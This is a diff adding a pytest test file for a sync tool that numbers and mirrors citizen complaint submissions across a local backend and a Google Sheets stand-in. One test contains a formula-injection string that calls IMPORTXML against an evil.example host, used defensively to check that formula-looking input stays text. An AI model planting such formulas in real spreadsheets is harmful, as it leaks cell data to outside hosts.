@@ -1,0 +1,133 @@
+"""The backend contract: the same behaviour on the local backend and on Google (real
+client libraries against the loopback stand-in)."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from datetime import datetime, timedelta
+
+import pytest
+
+from siapmas_sync.kendali import KENDALI_TAB
+
+from .conftest import WIB, Clock
+from .google_standin.server import GoogleStandin
+from .worlds import GoogleWorld, LocalWorld, World, rows_as_dicts
+
+T0 = datetime(2026, 11, 27, 9, 0, tzinfo=WIB)
+KRON = "Jalan rusak dan berlubang di Desa Jatirejo sejak Oktober 2026; dua pengendara jatuh malam hari."
+
+
+def response(minutes: int, nama: str, kron: str = KRON, bukti: str = "") -> list[object]:
+    return [T0 + timedelta(minutes=minutes), nama, "0812-3456-7890", f"{nama.lower()}@example.com", kron, bukti]
+
+
+@pytest.fixture(params=["local", "google"])
+def world(request: pytest.FixtureRequest, tmp_path, clock: Clock) -> Iterator[World]:
+    if request.param == "local":
+        w: World = LocalWorld(tmp_path, clock)
+        yield w
+        w.close()
+    else:
+        with GoogleStandin() as standin:
+            w = GoogleWorld(tmp_path, clock, standin)
+            yield w
+            w.close()
+
+
+def agenda_by_name(world: World) -> dict[str, str]:
+    return {r["Nama"]: r["No. Agenda"] for r in world.responses() if r.get("Nama")}
+
+
+def test_new_responses_are_numbered_and_mirrored(world: World):
+    world.add_responses([response(0, "Ani"), response(10, "Budi", "Pupuk langka di Kecamatan Dawarblandong, petani tidak bisa tanam padi.")])
+    report = world.engine().cycle()
+    assert report.new == ["0001/SIAPMAS/2026", "0002/SIAPMAS/2026"]
+    rows = {r["Nama"]: r for r in world.responses()}
+    assert rows["Ani"]["No. Agenda"] == "0001/SIAPMAS/2026" and rows["Ani"]["Tahap"] == "TERAGENDA"
+    assert rows["Budi"]["Diteruskan ke (usulan)"] == "Komisi II (usulan)"
+    buku = rows_as_dicts(world.tab("Buku Agenda"))
+    assert [b["No. Agenda"] for b in buku] == report.new
+    assert [k["No. Agenda"] for k in rows_as_dicts(world.tab(KENDALI_TAB))] == report.new
+    assert {r["Peristiwa"] for r in rows_as_dicts(world.tab("Riwayat"))} == {"DITERIMA", "TERAGENDA"}
+
+
+def test_a_second_cycle_with_no_new_input_writes_nothing(world: World):
+    world.add_responses([response(0, "Ani")])
+    world.engine().cycle()
+    before = {t: world.tab(t) for t in (world.response_tab, "Buku Agenda", "Riwayat", KENDALI_TAB)}
+    report = world.engine().cycle()
+    assert report.new == [] and report.cells_written == 0
+    assert {t: world.tab(t) for t in before} == before
+
+
+def test_rows_sorted_by_staff_keep_their_numbers(world: World):
+    world.add_responses([response(0, "Ani"), response(5, "Budi")])
+    world.engine().cycle()
+    world.reverse_responses()
+    world.add_responses([response(30, "Citra")])
+    report = world.engine().cycle()
+    assert report.new == ["0003/SIAPMAS/2026"]
+    assert agenda_by_name(world) == {"Budi": "0002/SIAPMAS/2026", "Ani": "0001/SIAPMAS/2026", "Citra": "0003/SIAPMAS/2026"}
+
+
+def test_inserted_columns_and_renamed_header_case(world: World):
+    world.add_responses([response(0, "Ani")])
+    world.engine().cycle()
+    world.insert_column(2, "Catatan Staf")
+    values = world.tab(world.response_tab)
+    values[0] = [("TAHAP" if v == "Tahap" else v) for v in values[0]]
+    world.put_tab(world.response_tab, values)
+    world.add_responses([response(10, "Budi")])
+    report = world.engine().cycle()
+    assert report.new == ["0002/SIAPMAS/2026"]
+    header = world.tab(world.response_tab)[0]
+    assert header.count("No. Agenda") == 1 and "Tahap" not in header and "TAHAP" in header
+    rows = {r["Nama"]: r for r in world.responses()}
+    assert rows["Budi"]["TAHAP"] == "TERAGENDA" and rows["Ani"]["No. Agenda"] == "0001/SIAPMAS/2026"
+
+
+def test_formula_looking_citizen_text_stays_text(world: World):
+    hostile = '=IMPORTXML("http://evil.example/?q="&A1, "//a")'
+    world.add_responses([response(0, "Ani", hostile + " jalan rusak di Desa Kemlagi sejak Oktober 2026")])
+    world.add_responses([response(5, "+62 Budi", "@SUM(1+1) sampah menumpuk di pasar Mojosari sejak 2 minggu")])
+    report = world.engine().cycle()
+    assert len(report.new) == 2
+    buku = rows_as_dicts(world.tab("Buku Agenda"))
+    assert buku[1]["Pengirim"] == "+62 Budi"
+    assert world.cell_is_text("Buku Agenda", "+62 Budi")
+    assert any(isinstance(b["Isi Ringkas"], str) and b["Isi Ringkas"].startswith("=IMPORTXML") for b in buku)
+    assert world.cell_is_text("Buku Agenda", buku[0]["Isi Ringkas"])
+
+
+def test_duplicate_and_bad_rows(world: World):
+    world.add_responses([response(0, "Ani"), response(3, "Ani"), ["kemarin", "Budi", "", "", KRON, ""], response(9, "Citra")])
+    report = world.engine().cycle()
+    assert report.new == ["0001/SIAPMAS/2026", "0002/SIAPMAS/2026"]
+    assert len(report.duplicates) == 1 and len(report.row_errors) == 1
+    tahap = [r["Tahap"] for r in world.responses()]
+    assert tahap == ["TERAGENDA", "DUPLIKAT", "PERIKSA BARIS", "TERAGENDA"]
+
+
+def test_kendali_edits_applied_or_refused_and_restored(world: World):
+    world.add_responses([response(0, "Ani"), response(5, "Budi")])
+    world.engine().cycle()
+    world.edit(KENDALI_TAB, "0001/SIAPMAS/2026", Tahap="PARAF KASUBAG TU")
+    world.edit(KENDALI_TAB, "0002/SIAPMAS/2026", Tahap="SELESAI")
+    report = world.engine().cycle()
+    assert sorted(r.accepted for r in report.steps) == [False, True]
+    k = {r["No. Agenda"]: r for r in rows_as_dicts(world.tab(KENDALI_TAB))}
+    assert k["0001/SIAPMAS/2026"]["Tahap"] == "PARAF KASUBAG TU" and k["0001/SIAPMAS/2026"]["Pesan"].startswith("✓")
+    assert k["0002/SIAPMAS/2026"]["Tahap"] == "TERAGENDA" and k["0002/SIAPMAS/2026"]["Pesan"].startswith("✗")
+    rows = {r["Nama"]: r for r in world.responses()}
+    assert rows["Ani"]["Tahap"] == "PARAF KASUBAG TU"  # the response sheet mirrors the stage
+    assert world.engine().cycle().steps == []
+
+
+def test_numbering_across_the_wib_new_year(world: World):
+    eve = datetime(2026, 12, 31, 23, 59, tzinfo=WIB)
+    world.add_responses([
+        [eve, "A", "081234567890", "", KRON, ""],
+        [eve + timedelta(seconds=90), "B", "081234567890", "", KRON + " B", ""],
+    ])
+    assert world.engine().cycle().new == ["0001/SIAPMAS/2026", "0001/SIAPMAS/2027"]
